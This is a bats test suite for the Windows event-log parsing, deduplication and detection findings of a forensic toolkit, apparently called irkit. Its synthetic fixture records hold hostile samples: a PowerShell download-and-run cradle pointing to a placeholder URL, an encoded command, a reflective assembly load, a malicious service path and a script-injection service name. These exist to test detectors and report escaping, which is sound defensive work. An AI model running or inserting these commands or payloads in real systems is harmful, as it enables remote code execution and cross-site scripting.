#!/usr/bin/env bats
bats_require_minimum_version 1.5.0
#
# Windows event logs (the evtx collector) in disk images built at test
# time by tests/gen/make_evtx_images.sh from the real logs of
# tests/data/evtx (plaso's test data), and in a KAPE zip of the same
# tree through ingest; findings on crafted records in an irkit archive
# (evtx_archive.py); the report's Windows section in Chromium.  Oracles: evtxexport -f xml
# (libevtx-utils: every record's fields) and evtx_dump.py (python3-evtx,
# an independent parser: record ids and times), through
# tests/e2e/evtx_oracle.py; sqlite3.
load helpers

DATA=$IRKIT_SRC/tests/data/evtx
LOGS=/Windows/System32/winevt/Logs

setup_file() {
	EIMG=$(mktemp -d "${BATS_TMPDIR:-/tmp}/irkit-evtx.XXXXXX")
	export EIMG
	"$IRKIT_SRC"/tests/gen/make_evtx_images.sh "$EIMG" "$EIMG/work" \
		>"$EIMG/gen.log" 2>&1
	if [ -e "$EIMG/ntfs.raw" ]; then
		"$ANALYZE" image --db "$EIMG/ntfs.db" "$EIMG/ntfs.raw" \
			>"$EIMG/ntfs.out" 2>"$EIMG/ntfs.err" || echo $? >"$EIMG/ntfs.rc"
	fi
}

teardown_file() {
	rm -rf "$EIMG"
}

setup() { setup_scratch; }
teardown() { teardown_scratch; }

need_tools() {
	command -v evtxexport >/dev/null || skip "no evtxexport (libevtx-utils)"
	command -v evtx_dump.py >/dev/null || skip "no evtx_dump.py (python3-evtx)"
}

q() { sqlite3 "$1" "$2"; }

@test "evtx: each log of the logs folder, every record's fields equal evtxexport's, times evtx_dump.py's" {
	[ -e "$EIMG/ntfs.raw" ] || skip "ntfs-3g could not mount here"
	need_tools
	[ ! -e "$EIMG/ntfs.rc" ]
	for f in System Security; do
		python3 "$IRKIT_SRC"/tests/e2e/evtx_oracle.py "$DATA/$f.evtx" \
			"$EIMG/ntfs.db" "$LOGS/$f.evtx"
	done
	# the channel is the record's, the host the SYSTEM hive's
	[ "$(q "$EIMG/ntfs.db" "SELECT group_concat(DISTINCT channel) FROM win_events WHERE path = '$LOGS/Security.evtx'")" = Security ]
	[ "$(q "$EIMG/ntfs.db" "SELECT count(DISTINCT host_id) FROM win_events")" = 1 ]
	[ "$(q "$EIMG/ntfs.db" "SELECT count(*) FROM win_events WHERE recovered")" = 0 ]
}

@test "evtx: one EVTX timeline event per record, naming the event and its key fields" {
	[ -e "$EIMG/ntfs.raw" ] || skip "ntfs-3g could not mount here"
	db=$EIMG/ntfs.db
	[ "$(q "$db" "SELECT count(*) FROM events WHERE source = 'EVTX'")" = \
	  "$(q "$db" "SELECT count(*) FROM win_events")" ]
	[ "$(q "$db" "SELECT count(*) FROM events e JOIN win_events w ON w.id = e.record_id AND e.record_table = 'win_events' WHERE e.ts = w.ts AND e.path = w.path")" = \
	  "$(q "$db" "SELECT count(*) FROM win_events")" ]
	# a 7045 names the service and its image path from the record's data
	run q "$db" "SELECT e.message, json_extract(w.data, '\$.ServiceName'), json_extract(w.data, '\$.ImagePath') FROM events e JOIN win_events w ON w.id = e.record_id AND e.record_table = 'win_events' WHERE w.event_id = 7045 LIMIT 1"
	IFS='|' read -r msg name image <<<"$output"
	[[ "$msg" == "System 7045 a service was installed: ServiceName=$name ImagePath=$image"* ]]
	# a 4624 its logon type and account
	run q "$db" "SELECT e.message FROM events e JOIN win_events w ON w.id = e.record_id AND e.record_table = 'win_events' WHERE w.event_id = 4624 AND w.record_id = 16"
	[ "$output" = "Security 4624 an account logged on: TargetDomainName=NT AUTHORITY TargetUserName=SYSTEM LogonType=5 TargetLogonId=0x00000000000003e7" ]
	# an id without an entry is said plainly, with its provider
	run q "$db" "SELECT e.message FROM events e JOIN win_events w ON w.id = e.record_id AND e.record_table = 'win_events' WHERE w.event_id = 4608 LIMIT 1"
	[ "$output" = "Security 4608 (Microsoft-Windows-Security-Auditing)" ]
}

@test "evtx: a log exported and renamed outside any Windows root is found by its signature" {
	need_tools
	run "$ANALYZE" image --db "$SCRATCH/m.db" "$EIMG/moved.raw"
	[ "$status" -eq 0 ]
	python3 "$IRKIT_SRC"/tests/e2e/evtx_oracle.py "$DATA/Security.evtx" \
		"$SCRATCH/m.db" /export/sec.bin
	[ "$(q "$SCRATCH/m.db" "SELECT group_concat(DISTINCT channel) FROM win_events")" = Security ]
}

@test "evtx: the same records through two paths and two images are stored once (computer, channel, record id)" {
	[ -e "$EIMG/ntfs.raw" ] || skip "ntfs-3g could not mount here"
	run "$ANALYZE" image --db "$SCRATCH/c.db" "$EIMG/ntfs.raw" "$EIMG/moved.raw"
	[ "$status" -eq 0 ]
	[ "$(q "$SCRATCH/c.db" "SELECT count(*) FROM win_events")" = 639 ]
	[ "$(q "$SCRATCH/c.db" "SELECT count(*) FROM win_events WHERE path = '/export/sec.bin'")" = 0 ]
	[ "$(q "$SCRATCH/c.db" "SELECT count(*) FROM events WHERE source = 'EVTX'")" = 639 ]
	[ "$(q "$SCRATCH/c.db" "SELECT count(*) FROM (SELECT 1 FROM win_events GROUP BY computer, channel, record_id HAVING count(*) > 1)")" = 0 ]
}

@test "evtx: a truncated log, a chunk with a bad checksum and garbage are errors naming them; the rest loads, exit 1" {
	need_tools
	run "$ANALYZE" image --db "$SCRATCH/h.db" "$EIMG/hostile.raw"
	[ "$status" -eq 1 ]
	for f in truncate badsum garbage; do
		grep -q "evtx: $LOGS/$f.evtx: corrupted" <<<"$output"
		[ "$(q "$SCRATCH/h.db" "SELECT count(*) FROM log WHERE level = 'error' AND path = '$LOGS/$f.evtx'")" = 1 ]
	done
	# the good log beside them is whole
	python3 "$IRKIT_SRC"/tests/e2e/evtx_oracle.py "$DATA/Security.evtx" \
		"$SCRATCH/h.db" "$LOGS/Security.evtx"
	# what libevtx reads of the truncated one is kept: evtxexport's count
	python3 "$IRKIT_SRC"/tests/gen/evtx_cut.py "$DATA/System.evtx" "$SCRATCH/t.evtx" 0 truncate
	[ "$(q "$SCRATCH/h.db" "SELECT count(*) FROM win_events WHERE path = '$LOGS/truncate.evtx'")" = \
	  "$(evtxexport -f xml "$SCRATCH/t.evtx" 2>/dev/null | grep -c '<Event xmlns')" ]
	[ "$(q "$SCRATCH/h.db" "SELECT count(*) FROM win_events WHERE path = '$LOGS/garbage.evtx'")" = 0 ]
	# a log of the folder not named .evtx is read too, by its signature
	# (its records are the other System copies': none stored again)
	[ "$(q "$SCRATCH/h.db" "SELECT count(*) FROM log WHERE path = '$LOGS/Archive-System.dat' AND message = '445 event records (0 recovered)'")" = 1 ]
}

# win_event records (JSONL) for events the sample logs lack, one per
# line as tests/gen's python prints them from "id provider channel
# event_id minutes data" tuples.
records() {
	python3 - "$@" <<'PY'
import json, sys
SEC = "Microsoft-Windows-Security-Auditing"
TS = "Microsoft-Windows-TaskScheduler/Operational"
T0 = 1600000000000000
rows = {
 "a": [
  ("Service Control Manager", "System", 7045, 1, {"ServiceName": "upd", "ImagePath": "cmd.exe /c C:\\Users\\Public\\x.bat"}),
  ("Service Control Manager", "System", 7045, 2, {"ServiceName": "fine", "ImagePath": "C:\\Windows\\system32\\svchost.exe -k netsvcs"}),
  ("Service Control Manager", "System", 7045, 3, {"ServiceName": "drv", "ImagePath": "\\SystemRoot\\System32\\drivers\\ok.sys"}),
  ("Service Control Manager", "System", 7045, 4, {"ServiceName": "agent", "ImagePath": "D:\\tools\\agent.exe"}),
  (SEC, "Security", 4697, 5, {"ServiceName": "evil", "ServiceFileName": "C:\\ProgramData\\svc\\evil.exe", "SubjectUserName": "eve"}),
  ("Microsoft-Windows-Eventlog", "Security", 1102, 6, {"SubjectUserName": "eve", "SubjectDomainName": "CORP"}),
  ("Microsoft-Windows-Eventlog", "System", 104, 7, {"SubjectUserName": "eve", "Channel": "Application"}),
  (SEC, "Security", 4719, 8, {"SubjectUserName": "eve", "SubcategoryId": "%%12544", "AuditPolicyChanges": "%%8448"}),
  (SEC, "Security", 4624, 9, {"LogonType": "10", "IpAddress": "10.9.8.7", "TargetUserName": "bob"}),
  (SEC, "Security", 4624, 10, {"LogonType": "10", "IpAddress": "10.9.8.7", "TargetUserName": "bob"}),
  (SEC, "Security", 4624, 11, {"LogonType": "3", "IpAddress": "10.1.1.1", "TargetUserName": "svc"}),
  (SEC, "Security", 4624, 12, {"LogonType": "3", "IpAddress": "-", "WorkstationName": "", "TargetUserName": "x"}),
  (SEC, "Security", 4624, 13, {"LogonType": "2", "IpAddress": "10.5.5.5", "TargetUserName": "y"}),
  (SEC, "Security", 4648, 14, {"SubjectUserName": "bob", "TargetUserName": "admin", "TargetServerName": "FS01"}),
  (SEC, "Security", 4648, 15, {"SubjectUserName": "bob", "TargetUserName": "bob", "TargetServerName": "localhost"}),
  (SEC, "Security", 4698, 16, {"TaskName": "\\Updater", "SubjectUserName": "eve"}),
  (SEC, "Security", 4702, 20, {"TaskName": "\\Microsoft\\Windows\\EventCacheManager", "SubjectUserName": "eve"}),
  (SEC, "Security", 4702, 50, {"TaskName": "\\Microsoft\\Windows\\EventCacheManager", "SubjectUserName": "eve"}),
  ("Microsoft-Windows-TaskScheduler", TS, 141, 51, {"TaskName": "\\Old", "UserName": "eve"}),
  (SEC, "Security", 4720, 52, {"TargetUserName": "helpdesk2", "TargetDomainName": "CORP", "SubjectUserName": "eve"}),
  (SEC, "Security", 4732, 53, {"TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544", "MemberSid": "S-1-5-21-1-2-3-1105", "MemberName": "-", "SubjectUserName": "eve"}),
  (SEC, "Security", 4732, 54, {"TargetUserName": "Users", "TargetSid": "S-1-5-32-545", "MemberSid": "S-1-5-21-1-2-3-1106", "SubjectUserName": "eve"}),
  (SEC, "Security", 5140, 55, {"ShareName": "\\\\*\\ADMIN$", "IpAddress": "10.9.8.7", "SubjectUserName": "bob"}),
  (SEC, "Security", 5145, 56, {"ShareName": "\\\\*\\IPC$", "RelativeTargetName": "svcctl", "IpAddress": "10.9.8.7", "SubjectUserName": "bob"}),
  (SEC, "Security", 5145, 57, {"ShareName": "\\\\*\\IPC$", "RelativeTargetName": "RENAMED-WS1-1234-stdin", "IpAddress": "10.9.8.7", "SubjectUserName": "bob"}),
  (SEC, "Security", 5140, 58, {"ShareName": "\\\\*\\SYSVOL", "IpAddress": "10.9.8.7", "SubjectUserName": "bob"}),
  (SEC, "Security", 5140, 59, {"ShareName": "\\\\*\\IPC$", "IpAddress": "10.9.8.7", "SubjectUserName": "bob"}),
  ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104, 60, {"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"}),
  ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104, 61, {"ScriptBlockText": "Get-Process"}),
  ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104, 62, {"ScriptBlockText": "[System.Reflection.Assembly]::Load($b)"}),
  ("PowerShell", "Windows PowerShell", 400, 63, {"Data1": "Available", "Data3": "HostApplication=powershell.exe -enc SQBFAFgA"}),
  (SEC, "Application", 1102, 64, {"SubjectUserName": "not the Eventlog provider"}),
  ("Service Control Manager", "System", 7045, 65, {"ServiceName": "<script>document.title='pwned'</script>", "ImagePath": "C:\\Windows\\x.exe"}),
 ],
 "b": [
  (SEC, "Security", 4624, 1, {"LogonType": "3", "IpAddress": "10.1.1.1", "TargetUserName": "svc"}),
 ], # no channel (its XML unreadable) twice, the same record twice
 "n": [
  (SEC, "", 4624, 1, {}), (SEC, "", 4624, 2, {}),
  (SEC, "Security", 4624, 3, {}), (SEC, "Security", 4624, 4, {}),
 ],
}
for i, (prov, chan, eid, mins, data) in enumerate(rows[sys.argv[1]]):
    print(json.dumps({"type": "win_event", "path": "/x/%s.evtx" % chan.replace("/", "%4"),
        "channel": chan or None, "provider": prov, "event_id": eid,
        "record_id": 7 if sys.argv[1] == "n" else 100 + i,
        "ts": T0 + mins * 60000000, "computer": "WS-" + sys.argv[1].upper(),
        "data": data, "recovered": False}))
PY
}

# An irkit archive of an empty root with records() of $1 added.
archive_with() {
	mkdir -p "$SCRATCH/root/etc" "$SCRATCH/out$1"
	"$COLLECT" -q --root "$SCRATCH/root" --only preload -o "$SCRATCH/out$1"
	records "$1" >"$SCRATCH/$1.jsonl"
	python3 "$IRKIT_SRC"/tests/e2e/evtx_archive.py "$(archive_in "$SCRATCH/out$1")" \
		"$SCRATCH/$1.tar.zst" "$SCRATCH/$1.jsonl"
}

@test "evtx: findings: odd services, logs cleared, audit policy, new remote sources, tasks changed and restored, accounts, admin shares, PowerShell" {
	archive_with b
	archive_with a
	run "$ANALYZE" ingest --db "$SCRATCH/f.db" "$SCRATCH/b.tar.zst"
	[ "$status" -eq 0 ]
	run "$ANALYZE" ingest --db "$SCRATCH/f.db" "$SCRATCH/a.tar.zst"
	[ "$status" -eq 0 ]
	run q "$SCRATCH/f.db" "SELECT f.score || ' ' || f.title FROM findings f JOIN evidence e ON e.id = f.evidence_id WHERE f.category = 'windows-events' AND e.path LIKE '%a.tar.zst' ORDER BY f.ts, f.title"
	diff -u - <(printf '%s\n' "$output") <<'WANT'
90 service installed: upd
30 service installed: agent
90 service installed: evil
80 the security log was cleared
80 the Application log was cleared
50 audit policy changed
30 RDP logon from 10.9.8.7
30 explicit credentials for admin to FS01
40 scheduled task created: \Updater
80 scheduled task updated: \Microsoft\Windows\EventCacheManager
40 scheduled task updated: \Microsoft\Windows\EventCacheManager
40 scheduled task deleted: \Old
40 account created: CORP\helpdesk2
60 added to Administrators: S-1-5-21-1-2-3-1105
60 admin share \\*\ADMIN$ from 10.9.8.7
60 service control pipe svcctl from 10.9.8.7
60 service control pipe RENAMED-WS1-1234-stdin from 10.9.8.7
70 PowerShell download
70 PowerShell reflection
70 PowerShell encoded command
WANT
	# the reasons say why
	run q "$SCRATCH/f.db" "SELECT reasons FROM findings WHERE title = 'service installed: upd'"
	[[ "$output" == *"runs cmd"*"outside the system folders"* ]]
	run q "$SCRATCH/f.db" "SELECT reasons FROM findings WHERE score = 80 AND title LIKE 'scheduled task updated:%'"
	[[ "$output" == *"updated again 30 minutes later"* ]]
	# the first collection's source was new then
	[ "$(q "$SCRATCH/f.db" "SELECT count(*) FROM findings WHERE title = 'network logon from 10.1.1.1'")" = 1 ]
}

@test "evtx: findings on the sample logs: the account created, Administrators members, explicit credentials; no driver service" {
	[ -e "$EIMG/ntfs.raw" ] || skip "ntfs-3g could not mount here"
	run q "$EIMG/ntfs.db" "SELECT score || ' ' || title FROM findings WHERE category = 'windows-events' ORDER BY ts, title"
	diff -u - <(printf '%s\n' "$output") <<'WANT'
40 account created: GREENDALEGOLD\gold_administrator
60 added to Administrators: S-1-5-21-1539974973-2753941131-3212641383-1000
30 explicit credentials for administrator to DC1.internal.greendale.edu
60 added to Administrators: S-1-5-21-226059406-2984137831-1201299043-512
30 explicit credentials for administrator to DC1
WANT
	# the oracle: evtxexport's 7045 image paths all under system32
	evtxexport -f xml "$DATA/System.evtx" 2>/dev/null | grep -A25 '>7045</EventID>' |
		grep -A2 'Name="ServiceName"' | sed -n 's/.*<Data Name="ImagePath">\(.*\)<\/Data>.*/\1/p' >"$SCRATCH/paths"
	[ "$(wc -l <"$SCRATCH/paths")" -eq 12 ]
	! grep -vi '^system32\\' "$SCRATCH/paths" || false
}


@test "evtx: report: a Windows section per host (logons by source, services installed, tasks changed, logs cleared) as Chromium renders it" {
	command -v chromium >/dev/null || skip "no chromium"
	archive_with b
	archive_with a
	"$ANALYZE" ingest -q --db "$SCRATCH/r.db" "$SCRATCH/b.tar.zst" "$SCRATCH/a.tar.zst"
	"$ANALYZE" report --db "$SCRATCH/r.db" -o "$SCRATCH/r.html"
	chrome --dump-dom "file://$SCRATCH/r.html" >"$SCRATCH/r.dom.html"
	grep -q '<a href="#windows">Windows</a>' "$SCRATCH/r.dom.html"
	# the hostile service name stayed text
	! grep -q '<title>pwned' "$SCRATCH/r.dom.html" || false
	python3 "$IRKIT_SRC/tests/e2e/dom_tables.py" "$SCRATCH/r.dom.html" >"$SCRATCH/r.json"
	python3 - "$SCRATCH/r.json" "$SCRATCH/r.db" <<'PY'
import json, sqlite3, sys
t = json.load(open(sys.argv[1]))["tables"]["windows"]
db = sqlite3.connect(sys.argv[2])
# WS-A's four tables, then WS-B's logons (its other three are empty: a
# note each); the host is the log's Computer (no host row names them)
assert len(t) == 4 + 1, [x["headers"] for x in t]
logons, services, tasks, cleared, logons_b = t
assert logons["headers"][:3] == ["Source", "Logon type", "Outcome"]
want = db.execute("""SELECT coalesce(nullif(nullif(json_extract(data, '$.IpAddress'), '-'), ''),
    nullif(nullif(json_extract(data, '$.WorkstationName'), '-'), ''), 'local'),
    json_extract(data, '$.LogonType'), count(*) FROM win_events
    WHERE computer = 'WS-A' AND event_id = 4624 GROUP BY 1, 2""").fetchall()
got = sorted((r[0], r[1], int(r[4])) for r in logons["rows"])
assert got == sorted((a, b, c) for a, b, c in want), (got, want)
names = [r[1] for r in services["rows"]]
assert names == ["upd", "fine", "drv", "agent", "evil",
                 "<script>document.title='pwned'</script>"], names
assert services["rows"][4][2] == "C:\\ProgramData\\svc\\evil.exe"
assert [(r[1], r[2]) for r in tasks["rows"]] == [
    ("\\Updater", "created"),
    ("\\Microsoft\\Windows\\EventCacheManager", "updated"),
    ("\\Microsoft\\Windows\\EventCacheManager", "updated"),
    ("\\Old", "deleted")], tasks["rows"]
assert [(r[1], r[2]) for r in cleared["rows"]] == [
    ("Security", "CORP\\eve"), ("Application", "eve")], cleared["rows"]
assert logons_b["rows"][0][0] == "10.1.1.1"
PY
}

@test "evtx: a record whose identity is not whole (no channel) is never taken for a duplicate" {
	archive_with n
	run "$ANALYZE" ingest --db "$SCRATCH/n.db" "$SCRATCH/n.tar.zst"
	[ "$status" -eq 0 ]
	[ "$(q "$SCRATCH/n.db" "SELECT count(*) FROM win_events WHERE channel IS NULL")" = 2 ]
	[ "$(q "$SCRATCH/n.db" "SELECT count(*) FROM win_events WHERE channel = 'Security'")" = 1 ]
}

# The win_events rows of a case, ids left out, in a stable order.
event_rows() {
	sqlite3 -batch "$1" "SELECT path, channel, provider, event_id, record_id,
	    ts, computer, user_sid, level, data, recovered FROM win_events
	    ORDER BY path, record_id"
}

@test "evtx: a KAPE zip and folder of the same Windows tree give the rows, events and findings the image gives" {
	[ -e "$EIMG/ntfs.raw" ] || skip "ntfs-3g could not mount here"
	need_tools
	k=$SCRATCH/kape/HOST1/C/Windows/System32
	mkdir -p "$k"/config "$k"/winevt/Logs
	cp "$EIMG"/work/hives/SYSTEM "$EIMG"/work/hives/SOFTWARE "$k"/config/
	cp "$DATA"/System.evtx "$DATA"/Security.evtx "$k"/winevt/Logs/
	(cd "$SCRATCH/kape" && zip -qr "$SCRATCH/kape.zip" HOST1)
	event_rows "$EIMG/ntfs.db" >"$SCRATCH/img.txt"
	[ "$(wc -l <"$SCRATCH/img.txt")" -eq 639 ]
	for input in "$SCRATCH/kape.zip" "$SCRATCH/kape"; do
		rm -f "$SCRATCH/k.db"
		run "$ANALYZE" ingest --no-default-rules --db "$SCRATCH/k.db" "$input"
		[ "$status" -eq 0 ]
		event_rows "$SCRATCH/k.db" | diff -u "$SCRATCH/img.txt" -
		[ "$(q "$SCRATCH/k.db" "SELECT count(*) FROM events WHERE source = 'EVTX'")" = 639 ]
		diff -u <(q "$EIMG/ntfs.db" "SELECT message FROM events WHERE source = 'EVTX' ORDER BY ts, message") \
			<(q "$SCRATCH/k.db" "SELECT message FROM events WHERE source = 'EVTX' ORDER BY ts, message")
		diff -u <(q "$EIMG/ntfs.db" "SELECT score, title FROM findings WHERE category = 'windows-events' ORDER BY ts, title") \
			<(q "$SCRATCH/k.db" "SELECT score, title FROM findings WHERE category = 'windows-events' ORDER BY ts, title")
	done
	python3 "$IRKIT_SRC"/tests/e2e/evtx_oracle.py "$DATA/Security.evtx" \
		"$SCRATCH/k.db" "$LOGS/Security.evtx"
}

@test "evtx: records in a chunk's free space are stored recovered, as evtxexport -m recovered reads them, through image and ingest" {
	[ -e "$EIMG/recovered.raw" ] || skip "ntfs-3g could not mount here"
	need_tools
	log=$EIMG/work/rec/Security.evtx
	# the oracle recovers the 10 records evtx_cut.py left in free space
	evtxexport -m recovered -f xml "$log" 2>/dev/null |
		sed -n 's/.*<EventRecordID>\([0-9]*\)<.*/\1/p' | sort -n >"$SCRATCH/want"
	[ "$(wc -l <"$SCRATCH/want")" -eq 10 ]
	run "$ANALYZE" image --db "$SCRATCH/i.db" "$EIMG/recovered.raw"
	[ "$status" -eq 0 ]
	q "$SCRATCH/i.db" "SELECT record_id FROM win_events WHERE recovered ORDER BY record_id" |
		diff -u "$SCRATCH/want" -
	# every field of every row, recovered or not, is evtxexport's
	python3 "$IRKIT_SRC"/tests/e2e/evtx_oracle.py "$log" "$SCRATCH/i.db" \
		"$LOGS/Security.evtx" recovered
	[ "$(q "$SCRATCH/i.db" "SELECT message FROM log WHERE path = '$LOGS/Security.evtx'")" = \
	  "194 event records (10 recovered)" ]
	# a KAPE folder of the same tree: the same rows
	k=$SCRATCH/kape/HOST1/C/Windows/System32
	mkdir -p "$k"/config "$k"/winevt/Logs
	cp "$EIMG"/work/hives/SYSTEM "$EIMG"/work/hives/SOFTWARE "$k"/config/
	cp "$log" "$k"/winevt/Logs/
	run "$ANALYZE" ingest --db "$SCRATCH/k.db" "$SCRATCH/kape"
	[ "$status" -eq 0 ]
	diff -u <(event_rows "$SCRATCH/i.db") <(event_rows "$SCRATCH/k.db")
	[ "$(q "$SCRATCH/k.db" "SELECT count(*) FROM win_events WHERE recovered")" = 10 ]
}

# A foreign collection's tree in $1: a Windows root C/ whose logs folder
# holds the System log's first chunk, the Security log exported and
# renamed to C/Users/Public/x.dat, and the System log's other chunks
# as export/sys.bin, outside any Windows root.
found_tree() {
	mkdir -p "$1"/C/Windows/System32/config "$1"/C/Windows/System32/winevt/Logs \
		"$1"/C/Users/Public "$1"/export
	cp "$EIMG"/work/hives/SYSTEM "$EIMG"/work/hives/SOFTWARE "$1"/C/Windows/System32/config/
	python3 "$IRKIT_SRC"/tests/gen/evtx_cut.py "$DATA/System.evtx" \
		"$1"/C/Windows/System32/winevt/Logs/System.evtx 0:1
	cp "$DATA/Security.evtx" "$1"/C/Users/Public/x.dat
	python3 "$IRKIT_SRC"/tests/gen/evtx_cut.py "$DATA/System.evtx" \
		"$1"/export/sys.bin 1:3
}

@test "evtx: ingest finds EVTX files by their signature among a foreign collection's members (zip, tar, folder), in a Windows root and outside, as image does" {
	need_tools
	t=$SCRATCH/tree
	found_tree "$t"
	(cd "$t" && zip -qr "$SCRATCH/c.zip" C export && tar cf "$SCRATCH/c.tar" C export)
	# the image of the same volume: C's tree with export/ in it
	export MTOOLS_SKIP_CHECK=1
	truncate -s 8M "$SCRATCH/c.raw"
	mkfs.vfat -n FOUND "$SCRATCH/c.raw" >/dev/null
	mcopy -s -i "$SCRATCH/c.raw" "$t"/C/Windows "$t"/C/Users "$t"/export ::/
	run "$ANALYZE" image --db "$SCRATCH/i.db" "$SCRATCH/c.raw"
	[ "$status" -eq 0 ]
	event_rows "$SCRATCH/i.db" >"$SCRATCH/img.txt"
	[ "$(wc -l <"$SCRATCH/img.txt")" -eq 639 ]
	for input in c.zip c.tar tree; do
		db=$SCRATCH/$input.db
		run "$ANALYZE" ingest --no-default-rules --db "$db" "$SCRATCH/$input"
		[ "$status" -eq 0 ]
		# the oracles: each file's records, field for field
		python3 "$IRKIT_SRC"/tests/e2e/evtx_oracle.py \
			"$t"/C/Windows/System32/winevt/Logs/System.evtx "$db" "$LOGS/System.evtx"
		python3 "$IRKIT_SRC"/tests/e2e/evtx_oracle.py "$t"/C/Users/Public/x.dat \
			"$db" /Users/Public/x.dat
		python3 "$IRKIT_SRC"/tests/e2e/evtx_oracle.py "$t"/export/sys.bin \
			"$db" /export/sys.bin
		# the image's rows, events and findings
		event_rows "$db" | diff -u "$SCRATCH/img.txt" -
		diff -u <(q "$SCRATCH/i.db" "SELECT message FROM events WHERE source = 'EVTX' ORDER BY ts, message") \
			<(q "$db" "SELECT message FROM events WHERE source = 'EVTX' ORDER BY ts, message")
		diff -u <(q "$SCRATCH/i.db" "SELECT score, title FROM findings WHERE category = 'windows-events' ORDER BY ts, title") \
			<(q "$db" "SELECT score, title FROM findings WHERE category = 'windows-events' ORDER BY ts, title")
		# the logs folder's log is read once, by the evtx collector
		[ "$(q "$db" "SELECT count(*) FROM log WHERE component = 'evtx' AND path = '$LOGS/System.evtx' AND message LIKE '% event records %'")" = 1 ]
	done
}

@test "evtx: a member with the EVTX signature that libevtx cannot read is an error naming it (exit 1); a file of a foreign collection without the signature is not read" {
	mkdir -p "$SCRATCH/g/junk"
	python3 "$IRKIT_SRC"/tests/gen/evtx_cut.py "$DATA/System.evtx" "$SCRATCH/g/junk/fake.bin" 0 garbage
	# the signature, but not at the start
	{ printf 'x'; cat "$DATA/Security.evtx"; } >"$SCRATCH/g/junk/late.bin"
	(cd "$SCRATCH/g" && tar cf "$SCRATCH/g.tar" junk)
	run "$ANALYZE" ingest --db "$SCRATCH/g.db" "$SCRATCH/g.tar"
	[ "$status" -eq 1 ]
	grep -q "evtx: /junk/fake.bin: corrupted" <<<"$output"
	[ "$(q "$SCRATCH/g.db" "SELECT count(*) FROM log WHERE level = 'error' AND component = 'evtx' AND path = '/junk/fake.bin'")" = 1 ]
	[ "$(q "$SCRATCH/g.db" "SELECT count(*) FROM log WHERE path = '/junk/late.bin'")" = 0 ]
	[ "$(q "$SCRATCH/g.db" "SELECT count(*) FROM win_events")" = 0 ]
}

@test "evtx: ingest finds an EVTX file by its signature among an irkit archive's copied files (a log rotation irkit-collect copied)" {
	need_tools
	# irkit-collect copies only the files its collectors name: an EVTX
	# file is in its archive when it lies under such a name
	mkdir -p "$SCRATCH/root/etc" "$SCRATCH/root/var/log" "$SCRATCH/out"
	echo 'Jan  1 00:00:00 h sshd[1]: x' >"$SCRATCH/root/var/log/auth.log"
	cp "$DATA/Security.evtx" "$SCRATCH/root/var/log/auth.log.1"
	"$COLLECT" -q --root "$SCRATCH/root" --only logs -o "$SCRATCH/out"
	a=$(archive_in "$SCRATCH/out")
	zstd -dc "$a" | tar tf - | grep -q '/files/var/log/auth.log.1$'
	run "$ANALYZE" ingest --db "$SCRATCH/a.db" "$a"
	[ "$status" -eq 0 ]
	python3 "$IRKIT_SRC"/tests/e2e/evtx_oracle.py "$DATA/Security.evtx" \
		"$SCRATCH/a.db" /var/log/auth.log.1
	[ "$(q "$SCRATCH/a.db" "SELECT count(*) FROM events WHERE source = 'EVTX' AND path = '/var/log/auth.log.1'")" = 194 ]
}
